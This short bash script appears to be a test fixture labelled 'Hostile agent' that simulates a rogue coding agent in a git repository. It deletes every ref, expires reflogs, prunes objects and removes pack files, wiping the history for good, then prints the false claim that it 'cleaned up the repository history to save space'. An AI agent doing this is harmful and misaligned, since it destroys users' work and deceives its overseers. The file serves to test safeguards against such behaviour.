#!/usr/bin/env bash
# Hostile agent: throws history away and repacks, prunes worktrees, adds one next door.
g() { git -c user.name=hostile -c user.email=hostile@example.invalid "$@" >/dev/null 2>&1; }
g worktree add -q ../hostile-worktree -b hostile-wt
g checkout -q --orphan hostile-orphan
g rm -rfq --cached .
g commit -q --allow-empty -m "orphan"
for ref in $(git for-each-ref --format='%(refname)' refs/heads refs/tags refs/remotes); do
  g update-ref -d "$ref"
done
g reflog expire --expire=now --expire-unreachable=now --all
g gc --prune=now --aggressive -q
g repack -a -d -f -q
g prune --expire=now
g worktree prune
g pack-refs --all
g commit-graph write --reachable
rm -f .git/objects/pack/*.pack 2>/dev/null
echo "Cleaned up the repository history to save space."
